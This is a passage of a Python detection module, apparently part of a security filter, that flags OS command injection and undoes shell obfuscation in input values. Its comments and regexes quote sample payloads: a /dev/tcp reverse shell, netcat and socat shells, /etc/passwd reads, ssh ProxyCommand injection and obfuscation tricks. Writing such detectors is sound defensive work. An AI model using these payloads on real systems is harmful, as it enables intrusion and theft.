"""OS command injection: a shell separator or substitution followed by a command that would run.

The shell's own grammar decides: after ``;``, ``|``, ``&&``, ``||``, a newline, ``$(`` or a
backtick, the next word is a command. A word counts when it is a real command *and* what follows
reads as shell (a flag, a path, a number, a redirection, another separator, the end of the value);
for unambiguous tools (``whoami``, ``wget``, ``powershell`` …) any argument counts. So
``; cat /etc/passwd`` and ``|id`` are caught while "Tom & Jerry; cat lovers", "A & B & more" and a
markdown table ``| id | integer |`` are not. Quote and ``${IFS}`` obfuscation is undone first.

A command also runs when something else runs it: a language's shell-out call on a command
(``exec('whoami')``), PHP code (``<?php``, ``{${…}}``, ``$_GET[…]``), bash's ``/dev/tcp`` redirection,
an editor's ``!`` escape, a wrapper such as ``time``/``nohup``/``flock`` in front of an unambiguous tool,
and ``sh -c`` with a command.

A whole value that is one command line with no separator before it (``uname -a``, ``sleep 5``,
``cscli alerts list``) is judged by ``commands.bare_command``: recon tools, and common tools only in their
probing form.

Some shapes spell a command or its arguments so that they appear only once the shell has read them
(``${HOME:0:1}`` for ``/``, ``xxd -r -p <<< 2f…``, ``$'\\151\\144'``, ``\\n`` written for a line break) or reach a
command without a separator (an option such as ``--upload-pack=…``, XSLT's ``php:function``): ``_spelled_by_shell``.
Commands run through another syntax (cmd.exe's ``for /f``, Ruby's ``%x( )``, PHP's backticks, a command glued to a
number) are ``scripted.scripted_probe``. Shell the author shows (an indented block, a sentence wrapped onto a
line) counts only unambiguous tools; a markdown fence or a ``$`` prompt gets no such pass (both are free for an
attacker to add, and a shell still runs what follows them).
"""

from __future__ import annotations

import re
from html.entities import html5

from bastion.detection.cmd_breakouts import (
    cmd_line_breakout,
    cmd_line_worth,
    delimited_cmd_run,
    php_shell_breakout,
    switches_or_backtick,
)
from bastion.detection.cmd_grammar import cmd_grammar
from bastion.detection.cmd_lone import lone_command
from bastion.detection.code_probes import HINTS as CODE_HINTS
from bastion.detection.code_probes import code_probe, node_statement
from bastion.detection.commands import PROSE_WORDS, RECON, RECON_PREFIXES, SHELLS, TOOL_NAMES, bare_command
from bastion.detection.eval_sinks import eval_sink
from bastion.detection.language_exec import language_exec
from bastion.detection.listings import graphql_field_line, graphql_operation, version_list_line
from bastion.detection.probes import confirmation_probe
from bastion.detection.reverse_shell import reverse_shell
from bastion.detection.scripted import scripted_probe

STRONG = frozenset({
    "whoami", "uname", "ifconfig", "ipconfig", "wget", "curl", "nc", "ncat", "netcat", "powershell",
    "pwsh", "cmd", "cmd.exe", "systeminfo", "nslookup", "certutil", "bitsadmin", "wmic", "mshta",
    "rundll32", "regsvr32", "socat", "busybox", "nmap", "xterm", "mkfifo", "telnet", "tftp", "netstat",
    "tasklist", "net.exe", "powershell.exe", "getent", "netsh", "schtasks", "vssadmin", "wevtutil",
    # PowerShell: download, execute, read files and the environment
    "iex", "iwr", "irm", "invoke-expression", "invoke-webrequest", "invoke-restmethod", "invoke-command",
    "invoke-item", "start-process", "start-bitstransfer", "new-object", "get-childitem", "get-content",
    "set-content", "add-content", "out-file",
})
WEAK = frozenset({
    "id", "ls", "cat", "echo", "sleep", "ping", "sh", "bash", "zsh", "ksh", "dash", "csh", "python",
    "python3", "perl", "ruby", "php", "node", "rm", "chmod", "chown", "touch", "find", "grep", "awk",
    "sed", "head", "tail", "more", "less", "nohup", "timeout", "pwd", "ps", "kill", "crontab", "su",
    "sudo", "ssh", "scp", "dig", "host", "xargs", "exec", "eval", "env", "printenv", "export", "tar",
    "base64", "openssl", "dir", "type", "del", "copy", "net", "reg", "hostname", "passwd", "uptime",
    "who", "w", "dd", "od", "xxd", "mail", "shutdown", "reboot", "whereis", "which", "lsof", "ss",
    "cp", "mv", "mkdir", "expr", "start", "sc", "tac", "nl", "wc", "sort", "uniq", "rev", "java",
    "printf", "sysinfo", "remove-item", "copy-item", "get-process", "stop-process", "get-item",
    # PowerShell probes: what a scanner runs to see output or a delay (get-help, start-sleep -s 5)
    "get-help", "start-sleep", "get-date", "get-host", "get-command", "write-output", "write-host",
})
_SEP = re.compile(r"(;|\|\||\||&&|&|\n|\r|\$\(|[<>]\((?!\))|`|\^)\s*")
_SUBSTITUTIONS = ("$(", "<(", ">(")
"""Command substitution and process substitution: what follows is a command line wherever the opener stands, inside a
word (``e$(…)o``) or as an argument (``diff <(ls /etc) <(…)``)."""
_ASSIGNMENTS = re.compile(
    r"(?:[a-z_]\w{0,63}+=(?:'[^'\n]{0,200}+'|\"[^\"\n]{0,200}+\"|[^\s;|&'\"`()<>]{0,200}+)[ \t]++)++", re.I)
"""Environment assignments before a command (``FOO='a b' BAR=1 id``): the shell runs the command after them."""
_SUBSTITUTED_LINE = re.compile(r"[ \t]++[^()\n]{1,200}+\)")
"""The arguments of a command inside a substitution, up to its closing parenthesis (``$(echo ch)``)."""
_WORD = re.compile(r"(?:(?:/usr)?(?:/s?bin/)|\./)?([a-z][a-z0-9_.]*(?:-[a-z][a-z0-9]*)?)", re.I)
"""A command name, optionally with its directory; PowerShell's Verb-Noun (``Get-Content``) is one word."""
_SHELLISH_ARG = re.compile(
    r"\s+(?:-++(?!\s)|/|\./|~|\$|%|\"|'|\d|\\|[a-z]:[\\/]|https?:|[\w.-]+[./][\w./-]+"
    r"|[\w.-]{0,64}\*[\w.*-]{0,64}(?=[\s;|&)`'\"]|$)|\.\.(?=[\s/;|&)`]|$)|\.(?-i:[a-z_])[\w-]*(?=[\s;|&)`]|$))", re.I)
"""What makes the word before it a command line: an option (``-la``, ``--help``; a dash or two followed by a space is
prose punctuation, as in a postscript ``PS - thanks`` or ``ls - the listing``, fresh36), a path, a variable, a quote,
a number, a drive, a URL, a file name with an extension, a glob (``*``, ``*.php``, ``f*``: the shell expands it to
file names), the parent folder ``..`` or a dot-file (``.env``, ``.htaccess``)."""
_AFTER_CMD_END = re.compile(r"\s*(?:$|[;|&`)>\n]|<(?!/?[a-z][\w-]*(?:\s|/?>))|\$\{|\s*\|\|?)|\s+\#\s*$", re.I)
"""The command ends here (a separator, a redirection, a trailing comment, the end); ``<div>`` after a word is
markup, not input."""
_REDIRECT_TO_PATH = re.compile(r"[^;|&\n<>]{0,80}?\d?>>?\s*[/~$]")
"""Arguments, then output redirected to a file (``echo x>/tmp/x``, ``id > /dev/tcp/…``)."""
_GLOB_COMMAND = re.compile(r"(?=/[\w?*\[\]/]{0,255}[?*])/(?:[\w?*\[\]]+/)++[\w?*\[\]]+(?=[\s;|&)`]|$)")
"""A command path spelled with wildcards (``/???/??t``, ``/bin/c?t``): the shell expands it to a binary. The look-ahead
reads path characters only, at most 256 (read to the end of the value, it made ``/!^`` × 43K cost ~27 s)."""
_WINDOWS_GLOB_COMMAND = re.compile(
    r"(?=[a-z]:(?:\\[\w?*]+)*?\\\w*[?*][\w?*]*\\)[a-z]:(?:\\[\w?*]+)+\.?[\w?*]*(?=[\s;|&)`]|$)", re.I)
"""A Windows command path spelled with wildcards in its folders (``C:\\W*\\S*32\\c?lc.e?e``): PowerShell expands it to
a binary. A search pattern names its folders and puts the wildcard in the file name (``C:\\Logs\\*.txt``)."""
_CARET = re.compile(r"(?<=[a-z])\^(?=[a-z])", re.I)
_CMD_SUBSTRING = re.compile(r"%[a-z_]\w*:~-?\d+(?:,-?\d+)?%", re.I)
"""cmd.exe's substring of an environment variable (``%ProgramFiles:~10,1%``, the space in "Program Files"): a way to
write a space or a slash without typing it, read as a space. Only cmd writes ``%NAME:~n,m%``."""
_PIPE_TO_SHELL_ITSELF = re.compile(r"\|\s*\$(?:0|\{0\})\s*$")
"""``echo id|$0``: output piped into ``$0``, the running shell itself, so the text before it runs as a script."""
"""cmd.exe's escape character inside a word: ``w^h^o^a^m^i`` runs ``whoami``."""
_HTML_ENTITY = re.compile(r"&([a-z][a-z0-9]{1,31};)", re.I)
_IFS = re.compile(r"\$\{IFS\}|\$IFS(?:\$\d)?|\{,?\}|\$\{[a-z]*\}(?=[a-z])", re.I)
_GLUED_VAR = re.compile(r"(?<=[a-z/])\$\{[a-z_][a-z0-9_]*\}(?=[a-z])")
"""A braced variable inside a word (``c${u}at``, ``/e${x}tc``): unset, it joins the word's two halves."""
_IFS_GLUED = re.compile(r"(?:^|[\s;|&`(])([a-z][\w.-]{0,31})(?:\$\{(?-i:IFS)\}|\$(?-i:IFS)(?:\$\d)?)(?=[\w/$.'\"~-])",
                        re.I)
"""A word glued to ``$IFS`` (or ``${IFS}``, ``$IFS$9``) and an argument glued after it (``tr$IFSabc``,
``cut${IFS}-d:``): the field separator stands for a space only for a shell, whatever the word, and text never writes
it inside a word. ``$IFS`` named in prose (`` `$IFS` ``, ``IFS=$'\\n'``) has no word glued before it."""
_UNSET_VAR = re.compile(r"(?<=[a-z])\$(?:[a-z_]\w*(?=[\s/;|&]|$)|[@*!?$_-])", re.I)
"""A variable glued to a word (``cat$u /etc$u/passwd``, ``who$@ami``): unset or empty, it expands to nothing and
joins the word. The special parameters (``$!``, ``$?``, ``$$``, ``$-``, ``$_``) glued inside a word are the same
filler: no one writes ``una$$me`` but to hide ``uname``."""
_GLOB_VAR = re.compile(r"\$(?:\{\w*\}|[a-z_]\w*)(?=/\w*\?)|(?<=\?)\$(?:\{\w*\}|[a-z_]\w*)(?=[/?\s]|$)", re.I)
"""An unset variable glued to a wildcard path (``$x/???$y/??t``): it expands to nothing and leaves the glob. OData's
``?$filter=`` is followed by ``=``, not by a path."""
_BRACE_LIST = re.compile(r"\{([a-z][\w./-]*(?:,[^{}\s]*)+)\}", re.I)
_BRACE_QUOTED = re.compile(r"\{[^{}\s,]*(?:''|\"\"|\\)[^{}\s]*,[^{}\s]*\}")
_BRACE_NOISE = re.compile(r"''|\"\"|\\(?=[^\s])")
"""Inside a brace list the shell removes empty quotes and backslashes before it expands: ``{\\c''\\a\"\"t,/e*}``
is ``{cat,/e*}``."""
_QUOTE_SPLIT = re.compile(r"(?<=[a-z])(?:''|\"\"|'|\"|\\)(?=[a-z])", re.I)
_QUOTED_PIECE = re.compile(r"(['\"])([a-z]{1,16})\1", re.I)
"""Letters quoted at the end or the start of a word (``i"d"``, ``l's'``, ``"c"at``): the shell joins the quoted piece
to the word, so ``i"d"`` runs ``id``. ``_QUOTE_SPLIT`` only drops quotes with letters on both sides."""


def _join_quoted(m: re.Match[str]) -> str:
    """``_QUOTED_PIECE`` glued to a letter on one side and not to a word on the other: the letters alone."""
    text, start, end = m.string, m.start(), m.end()
    before = text[start - 1] if start else " "
    after = text[end] if end < len(text) else " "
    glued_before = before.isascii() and before.isalpha()
    glued_after = after.isascii() and after.isalpha()
    if glued_before and not (glued_after or after.isdigit() or after in "_'\""):
        return m.group(2)
    if glued_after and not (glued_before or before.isdigit() or before in "_'\""):
        return m.group(2)
    return m.group()
_SHELLSHOCK = re.compile(r"\(\s*\)\s*\{[^}]{0,20}\}\s*;")
"""CVE-2014-6271: a function definition in an environment variable (User-Agent, Referer …)."""
_NET_VERB = re.compile(r"\s+(?:user|localgroup|group|view|share|use|accounts|config|session)\b", re.I)
_REG_VERB = re.compile(r"\s+(?:add|query|delete|save|export|import|load)\s+[\"']?HK", re.I)
_SUBST_META = re.compile(r"[$;|><]")
_VAR_RUN = re.compile(
    r"""(?:^|(?<=[\s;|&^]))([a-z_]\w*)=\$?\\?(['"])(.{1,200}?)\\?\2\s*(?:;|&&|\|\||\n)\s*\$\{?\1\}?(?![\w])""", re.I)
"""``CMD=$'id';$CMD``, ``X=$'uname\\x20-a'&&$X``: a variable set to a command line, then expanded in command
position, which runs it. Bash's ``$'…'`` quoting spells characters as ``\\xHH``, which are read first."""
_ANSI_C_HEX = re.compile(r"\$'[^'\n]{0,200}'")
_HEX_ESCAPE = re.compile(r"\\(?:x([0-9a-f]{2})|([0-3][0-7]{2}))", re.I)
"""``\\x69`` or ``\\151``: a character in bash's ``$'…'`` quoting, by hex or octal code."""


def _escaped_char(m: re.Match[str]) -> str:
    return chr(int(m.group(1), 16)) if m.group(1) else chr(int(m.group(2), 8))


_SSH_OPTION = re.compile(r"^\s*['\"]?-o\s*['\"]?(?:ProxyCommand|LocalCommand|PermitLocalCommand)\s*=", re.I)
"""``-oProxyCommand="touch /tmp/x"`` as the whole value: an ssh option that runs a command, injected as an argument
where an application passes a field to ``ssh``, ``scp``, ``rsync -e`` or ``git``
(argument injection: no separator needed)."""
_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/[\w.:-]+/\d+")
"""Bash's network redirection (``sh -i >& /dev/tcp/10.0.0.1/4444 0>&1``): a reverse shell, in any position."""
_NC_SHELL = re.compile(
    r"(?<![\w.-])(?:nc|ncat|netcat)(?:\.exe)?\s(?:[^\n;|&]{0,60}?\s)?-[a-z]*[ec]\s*['\"]?"
    r"(?:/[\w/]*/)?(?:(?:ba|z|k|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b",
    re.I,
)
"""netcat told to hand a shell to whoever connects (``nc -lvvp 4444 -e /bin/sh``, ``ncat -e cmd.exe``): a bind
or reverse shell, whether it opens the value or follows a separator."""
_SOCAT_SHELL = re.compile(
    r"(?<![\w.-])socat(?:\.exe)?\s[^\n;|&]{0,100}?(?<![\w-])(?:exec|system):\s*['\"]?"
    r"(?:/[\w/]*/)?(?:(?:ba|z|k|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b",
    re.I,
)
"""socat joining a socket to a shell (``socat tcp-listen:5555 exec:/bin/bash``, ``socat TCP:10.0.0.9:80
EXEC:'sh -i',pty``): netcat's ``-e`` in socat's address syntax. A port forward (``socat TCP-LISTEN:80,fork
TCP:app:8080``) names no program."""
_QUOTE_THEN_TOOL = re.compile(r"""^\s*['"]\s*(?:(?:&&|\|\||[;&|])\s*)?""")
"""A value that closes a quoted argument and goes straight on to a command (``' whoami``, ``" & whoami``)."""
_PHP_CODE = re.compile(
    r"<\?(?:php\b|=)|\{\$\{|\$\{@|\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|ENV)\s*\["
    r"|(?<![\w.$>-])(?:phpinfo|php_uname)\s*\(\s*\)",
    re.I,
)
"""PHP code where a value was expected: an opening tag, ``{${…}}`` and ``${@…}`` interpolation that
evaluates, the request superglobals (``{$_GET["cmd"]}``), ``phpinfo()``."""
_EXEC_CALL = re.compile(
    r"(?<![\w.$>-])(?:os\.|Process\.|Kernel\.|IO\.)?(?:system|exec|spawn|passthru|shell_exec|popen|proc_open|pcntl_exec"
    r"|eval|assert)\s*\(\s*"
    r"(['\"`])([^'\"`]{1,1000})\1",
    re.I,
)
"""A language's shell-out function called on a command (``exec('whoami')``, ``;system('/usr/bin/id')``, Ruby's
``Process.spawn("id")`` and ``IO.popen``);
a method (``re.exec(s)``, ``$db->exec('…')``) or a non-command argument (``eval('1+1')``) is not."""
_BANG = re.compile(r"(?:^|(?<=[\s\\:+]))!\s*(?=[a-z/])", re.I)
"""An editor's or debugger's shell escape (``vim +'!whoami'``, ``gdb -ex '!id'``); only unambiguous tools count."""
_PROSE_BANG = re.compile(r"\w\s!")
"""A word, one blank, then ``!``: typography's spaced exclamation mark, not a shell escape or a negated pipeline."""
_WRAPPED = (
    r"(?:sudo\s+(?:-\S+\s+)*)?(?:sudo(?:\s+-\S+)*|time|nohup|setsid|nice(?:\s+-n)?(?:\s+-?\d+)?"
    r"|timeout(?:\s+-\S+)*\s+\d+[smhd]?|xargs(?:\s+-\S+)*|env(?:\s+\w+=\S*)*|stdbuf(?:\s+-\S+)*"
    r"|strace(?:\s+-\S+)*|watch(?:\s+-\S+)*|flock(?:\s+-\S+)*\s+\S+|cpulimit(?:\s+-\w+(?:\s+\d+)?)*"
    r"|chroot\s+/\S*)\s+(?=[a-z/])"
)
_WRAPPER = re.compile(r"[\s(]*" + _WRAPPED, re.I)
"""Tools whose job is to run another command (``time curl x``, ``cpulimit -l 100 -f whoami``): what they
run counts when it is an unambiguous tool."""
_WRAPPER_AFTER_SEPARATOR = re.compile(r"[ \t(]*" + _WRAPPED, re.I)
"""The same after a separator: a line break there is the next separator (with ``[\\s(]*`` a value of ``(\\n``
pairs read the rest of itself once per pair: 128 KiB took minutes)."""
_SHELL_C = re.compile(
    r"(?:^|(?<=[\s;|&`(]))(?:/[\w/]*/)?(?:(?:ba|z|k|da|c|tc)?sh|busybox(?:\s+sh)?)[\s,]+-c[\s,]+['\"]?(?=[a-z/$`])",
    re.I,
)
"""A shell told to run a string (``bash -c "echo x"``, a compiler's ``-wrapper sh,-c,id``)."""
_DECODE_TO_SHELL = re.compile(
    r"(?:base64\s+(?:-d|--decode|-D)|\brev\b|xxd\s+-r|openssl\s+[\w-]+\s+[^|;&]*-d\b|\btr\s|gunzip|zcat)[^|;&\n]{0,80}"
    r"\|\s*(?:/[\w/]*/)?(?:ba|z|k|da)?sh\b",
    re.I,
)
"""Text decoded, reversed or translated and piped into a shell (``echo … | base64 -d | sh``,
``printf dwssap/cte/ tac | rev | sh``): a hidden command. An install snippet (``curl … | sh``) pipes a
download, not a decoder."""
CLI_TOOLS = frozenset({
    "git", "docker", "kubectl", "npm", "npx", "yarn", "pnpm", "pip", "make", "go", "cargo", "helm", "terraform",
    "aws", "gcloud", "az", "systemctl", "journalctl", "brew", "apt", "apt-get", "dnf", "psql", "mysql", "redis-cli",
    "ssh-keygen", "for", "while", "cd", "jq", "gh", "poetry", "uv", "rustc", "gcc", "javac", "mvn", "gradle",
})
_SNIPPET = re.compile(r"\s*(?:[a-z_]\w*=\$\(\s*)?(?:sudo\s+)?([a-z][\w.-]*)\s+[-\w./~$\"'=]", re.I)
"""A command line, also one whose output a variable takes (``TOKEN=$(kubectl get secret … | base64 -d)``)."""
_SNIPPET_INSIDE = re.compile(
    r"(?:^|\s)(?:sudo\s+)?([a-z][\w.-]*)\s+(?:[a-z][\w-]*\s+)?(?:--?[a-z]|\.{0,2}/\w|~/)", re.I
)
"""A tool, optionally a subcommand, then a flag or a path (``ls -la /var``, ``git log --oneline``)."""
TOOLS = STRONG | WEAK | CLI_TOOLS
_ENCODED_BLANK = re.compile(r"%(?:09|20)")
_ENCODED_BREAK = re.compile(r"%(?:0[9ad]|20)", re.I)
_INPUT_LINE = re.compile(r"\s*(?:[\d.:]{1,40}|[\w-]{1,63}(?:\.[\w-]{1,63})+)\r?")
"""A first line that is what the field expected (a number, an address, a host name) before a line break that opens a
backtick substitution (``1\n`curl http://…``, fresh34): the break ends the expected value the way ``;`` would, so
the substitution is glued to it. A label or a sentence before a code span (``Example\n`ls -la```) is not a value."""
"""A line break, tab or space that a header value carries percent-encoded: a code span after it opens a line of the
text (`` …%0A%0A`make dist`%0A…``), as its decoded form reads, not a substitution glued to the escape's ``A``.
What counts there is what counts on a line that opens a value (``_opening_line_runs``): an unambiguous tool, a
probe (``%0A`id```), a system file, a closed command line; a project's own command (`` `make dist` ``) does not."""


def _is_snippet(text: str) -> bool:
    """The line is itself a command line (a snippet in a comment or ticket): its pipes and ``;`` are
    the author's, so only unambiguous tools after a separator count. It starts the line, or follows
    prose on it ("… would buy again ls -la /var/log | head") where a flag or a path marks it. Blanks sent
    percent-encoded (a header that carries ``docker%09run%09-v%09…``) are read as the blanks they encode."""
    if "%" in text:
        text = _ENCODED_BLANK.sub(" ", text)
    m = _SNIPPET.match(text)
    if m is not None and m.group(1).lower() in TOOLS:
        return True
    return any(m.group(1).lower() in TOOLS for m in _SNIPPET_INSIDE.finditer(text))


def normalize(value: str) -> str:
    """Undo shell obfuscation: ``${IFS}`` as a space, brace lists (``{cat,/etc/passwd}``) as words,
    ``w'h'o"am"i`` and ``wh\\oami`` as ``whoami``, bash's ``$'…\\x20…'`` escapes as their characters."""
    if "$'" in value and "\\" in value:
        value = _ANSI_C_HEX.sub(lambda m: _HEX_ESCAPE.sub(_escaped_char, m.group()), value)
    if "$" in value or "{" in value:
        if "{" in value and "," in value:
            value = _BRACE_QUOTED.sub(lambda m: _BRACE_NOISE.sub("", m.group()), value)
        value = _GLUED_VAR.sub("", value)
        value = _IFS.sub(" ", value)
        value = _UNSET_VAR.sub("", value)
        if "?" in value:
            value = _GLOB_VAR.sub("", value)
        value = _BRACE_LIST.sub(lambda m: m.group(1).replace(",", " "), value)
    if "'" in value or '"' in value or "\\" in value:
        if "'" in value or '"' in value:
            value = _QUOTED_PIECE.sub(_join_quoted, value)
        value = _QUOTE_SPLIT.sub("", value)
    if "^" in value:
        value = _CARET.sub("", value)
    if ":~" in value:
        value = _CMD_SUBSTRING.sub(" ", value)
    return value


_BOUNDARY = re.compile(r"[\n`]|[.!?:]\s")


def _line_before(text: str, pos: int) -> str:
    """The command line a separator belongs to: back to the previous newline, backtick or sentence end."""
    head = text[max(0, pos - 200) : pos]
    end = 0
    for m in _BOUNDARY.finditer(head):
        end = m.end()
    return head[end:]


def _command_at(value: str, pos: int, sep: str, strong_only: bool = False) -> bool:
    if pos >= len(value) or not (value[pos].isalpha() or value[pos] in "/."):
        return False
    if not strong_only and value[pos] == "/" and _GLOB_COMMAND.match(value, pos):
        return True
    if not strong_only and value[pos + 1 : pos + 3] == ":\\" and _WINDOWS_GLOB_COMMAND.match(value, pos):
        return True
    m = _WORD.match(value, pos)
    if not m:
        return False
    if _capitalised_word(m.group(1), sep):
        if len(m.group(1)) == 1:
            return False
        window = min(len(value), m.end() + 160)  # the rest of the line, bounded: asked once per line break
        line_end = value.find("\n", m.end(), window)
        if _LINE_SEPARATOR.search(value, m.end(), line_end if line_end >= 0 else window) is None:
            return False
    cmd = m.group(1).lower().rstrip(".")
    if cmd not in STRONG and (strong_only or cmd not in WEAK):
        return False
    rest = value[m.end() :]
    if rest and (rest[0].isalnum() or rest[0] in "_-"):
        return False
    if cmd in STRONG and (not rest or rest[:1] in " \t;|&`)<>\n$"):
        return True
    if (cmd == "net" and _NET_VERB.match(rest)) or (cmd == "reg" and _REG_VERB.match(rest)):
        return True
    if sep == "|" and re.match(r"\s+\|", rest):
        return False  # a markdown table cell: "| id | integer |"
    if _SHELLISH_ARG.match(rest) or (rest and rest[0] == ">"):
        return True
    return _AFTER_CMD_END.match(rest) is not None or _REDIRECT_TO_PATH.match(rest) is not None


_LINE_SEPARATOR = re.compile(r"[;&`]|\|\||\$\(")


def _capitalised_word(word: str, sep: str) -> bool:
    """A capital letter alone (``| W |``, a table cell) or a capitalised word after a line break (``\n\nMore
    *Markdown* text.``, a sentence; fresh54): no Unix tool has a capital in its name and the shell does not fold case;
    cmd.exe does, but a line break ends its command line rather than separating two. A capitalised word's line that
    goes on to a command separator within 160 characters (``\nPerl 5.30.0; id``) is still judged as a command line
    (``_command_at``)."""
    if len(word) == 1:
        return word.isupper()
    return sep in "\n\r" and word[0].isupper() and word[1:].islower()


_ENTITY_NAMES = frozenset(name.lower() for name in html5 if name.endswith(";"))
"""HTML entity names in any case: ``&CoPY;`` is no entity to a strict parser, but it is one to whoever typed it (and
a case-toggling filter test makes it), never a command separator before a word glued to ``;``."""


def _entity_name(name: str) -> bool:
    """An entity name as written, or in another case when it holds a capital (``&CoPY;``, ``&REG;``): ``&del;`` is
    no entity (``&Del;`` is), so it stays ``& del;``."""
    return name in html5 or (not name.islower() and name.lower() in _ENTITY_NAMES)


def _entity_at(text: str, pos: int) -> bool:
    """``&copy;``, ``&amp;``, ``&CoPY;`` … in product text: an HTML entity, not ``& copy``."""
    m = _HTML_ENTITY.match(text, pos)
    return m is not None and _entity_name(m.group(1))


_NUMERIC_ENTITY = re.compile(r"&#(?:\d{1,7}|x[0-9a-f]{1,6});", re.I)


def _entity_end_at(text: str, pos: int) -> bool:
    """The ``;`` at ``pos`` closes an HTML entity (``A &amp; B``, ``&#39;``): escaped text, not a command separator.
    The unescaped form is inspected too, so a separator spelled ``&#59;`` is still read there."""
    amp = text.rfind("&", max(0, pos - 33), pos)
    if amp < 0:
        return False
    m = _NUMERIC_ENTITY.match(text, amp) or _HTML_ENTITY.match(text, amp)
    return m is not None and m.end() == pos + 1 and (m.re is _NUMERIC_ENTITY or _entity_name(m.group(1)))


def _fence(text: str, pos: int) -> bool:
    """A backtick in a run of two or more: a markdown code fence or span delimiter, not ``$(…)``'s twin."""
    return (pos > 0 and text[pos - 1] == "`") or text.startswith("``", pos)


def _closing_backtick(text: str, start: int) -> int:
    close = text.find("`", start)
    while close >= 0 and _fence(text, close):
        close = text.find("`", close + 1)
    return close


def _nested_command(text: str) -> tuple[int, int] | None:
    """A command run by another command or by code: shell-out calls, PHP code, ``/dev/tcp``, ``!``
    escapes, wrappers and ``sh -c``."""
    found = (_DEV_TCP.search(text) if "/dev/" in text else None) or (
        _NC_SHELL.search(text) if "-" in text and "n" in text else None) or (
        _SOCAT_SHELL.search(text) if "ocat" in text or "OCAT" in text else None) or (
        _PHP_CODE.search(text) if "$" in text or "<?" in text or "info(" in text or "uname(" in text else None
    )
    if found:
        return found.start(), found.end()
    if "=" in text and "$" in text:
        for m in _VAR_RUN.finditer(text):
            if _command_at(m.group(3) + " ", 0, ";"):
                return m.start(), m.end()
    if "(" in text:
        for m in _EXEC_CALL.finditer(text):
            if _command_at(m.group(2) + " ", 0, ";") or _shell_out_runs(m):
                return m.start(), m.end()
    if "!" in text:
        for m in _BANG.finditer(text):
            if _PROSE_BANG.match(text, max(0, m.start() - 2)) and text[m.start() + 1 : m.start() + 2].isspace():
                continue  # fresh56: "WARNING ! netstat …": a spaced "!" after a word is that word's argument
            if _command_at(text, m.end(), "!", strong_only=True):
                return m.start(), min(len(text), m.end() + 32)
    if "|" in text and "sh" in text and (decoded := _DECODE_TO_SHELL.search(text)):
        return decoded.start(), decoded.end()
    if "-c" in text:
        for m in _SHELL_C.finditer(text):
            word = _WORD.match(text, m.end())
            if word and word.group(1).lower() in STRONG | WEAK:
                return m.start(), min(len(text), word.end())
    return None


_SHELL_OUT = re.compile(r"(?:os\.|Process\.|Kernel\.|IO\.)?(?:system|exec|spawn|passthru|shell_exec|popen|proc_open"
                        r"|pcntl_exec)\s*\(", re.I)


def _shell_out_runs(call: re.Match[str]) -> bool:
    """A function that runs a shell (``system``, ``passthru``, PHP's ``exec`` …; not ``eval``, which runs code)
    called on a known tool with any argument: ``system('echo XXXX')`` runs ``echo`` whatever it prints."""
    if not _SHELL_OUT.match(call.group()):
        return False
    word = _WORD.match(call.group(2))
    arg = call.group(2)
    return word is not None and word.group(1).lower() in STRONG | WEAK and arg[word.end() : word.end() + 1] in " \t"


def _strong_then_separator(text: str) -> bool:
    """The value starts with an unambiguous tool and goes straight on to more shell (``whoami;0'0'``,
    ``whoami && id``). A pipe is left out (``ipconfig | findstr IPv4`` is how documentation reads), and
    so is prose after the separator ("curl; why does it fail")."""
    text = text.lstrip()
    m = _WORD.match(text)
    if m is not None and m.group().startswith("/") and text[m.end() : m.end() + 1] == "|":
        return m.group(1).lower() in TOOLS  # /usr/bin/id|: a binary's path piped into what the application
        # appends; documentation spells "id | grep" with spaces and without the path
    if m is None or m.group(1).lower() not in STRONG:
        return False
    sep = re.match(r"\s*(?:;|&&|&|`)", text[m.end() :])
    if sep is None:
        return False
    after = m.end() + sep.end()
    nxt = text[after : after + 1]
    if nxt and not nxt.isspace() and not nxt.isalpha():
        return True  # glued junk after the separator: whoami;0'0'
    rest = text[after:]
    return _command_at(text, after + len(rest) - len(rest.lstrip()), ";")


_INDENTED = re.compile(r"(?: {4}|\t)")


def _in_indented_block(text: str, pos: int, memo: dict[int, bool]) -> bool:
    """``pos`` starts a line of a markdown code block: after a blank line, every line up to it is indented by four
    spaces or a tab (a snippet in a comment or a ticket). As in a fenced block, its commands are the author's
    example, so only unambiguous tools count there. ``memo`` (one per text) keeps the answer for each line end
    walked: every line of one block has the same answer, and a value of thousands of indented lines would otherwise
    walk back over all of them once per line (``\t\\\n`` × 5K: 4 s for 16 KiB)."""
    line_start = text.rfind("\n", 0, pos) + 1
    if line_start == 0 or not _INDENTED.match(text, line_start) or text[line_start:pos].strip():
        return False
    end = line_start - 1  # walk back over the block's earlier lines to the blank line that opens it
    walked: list[int] = []
    answer = False
    while end > 0:
        if end in memo:
            answer = memo[end]
            break
        walked.append(end)
        start = text.rfind("\n", 0, end) + 1
        line = text[start:end]
        if not line.strip():
            answer = start > 0
            break
        if not _INDENTED.match(line):
            break
        end = start - 1
    for seen in walked:
        memo[seen] = answer
    return answer


def _quote_then_tool(text: str) -> bool:
    """A closing quote, perhaps a separator, then an unambiguous tool that ends the value or takes shell
    arguments (``' whoami``, ``" && netstat -an``); a quoted phrase in prose does not start with its closing quote."""
    q = _QUOTE_THEN_TOOL.match(text) if text[:1] in "'\" \t" else None
    if q is None:
        return False
    m = _WORD.match(text, q.end())
    if m is None or m.group(1).lower() not in STRONG:
        return False
    rest = text[m.end() :]
    return not rest.strip() or _SHELLISH_ARG.match(rest) is not None or _AFTER_CMD_END.match(rest) is not None


def _wrapped(text: str, pos: int) -> bool:
    """At the start of a command line, a wrapper (``time``, ``nohup``, ``flock x`` …) that runs an unambiguous tool,
    or a probe in the form ``commands.bare_command`` knows, whatever redirection or ``&`` follows it
    (``nohup sleep 30 >/dev/null 2>&1 &``). ``nohup python app.py > app.log &`` runs a program, not a probe."""
    m = (_WRAPPER_AFTER_SEPARATOR if pos else _WRAPPER).match(text, pos)
    if m is None:
        return False
    if _command_at(text, m.end(), ";", strong_only=True):
        return True
    line = _UP_TO_REDIRECTION.match(text, m.end())
    return line is not None and bare_command(line.group())


def _probe_then_command(text: str) -> bool:
    """The value opens with a probe ``commands.bare_command`` knows, a recon tool or a ping at an address, and hands
    over to another command: ``uname -a; cat x``, ``nslookup x.example | cat y``, ``ping 127.0.0.1 | cat abc``.
    Alone or with a trailing separator it was refused already; what follows the separator must not make it pass
    (afrog's ``ping 127.0.0.1 | cat <word>``, fresh62). ``sleep 8 && echo finished`` stays a command line
    (``probe_chains`` reads a sleep by what it hands over to), and a fetch piped into a tool
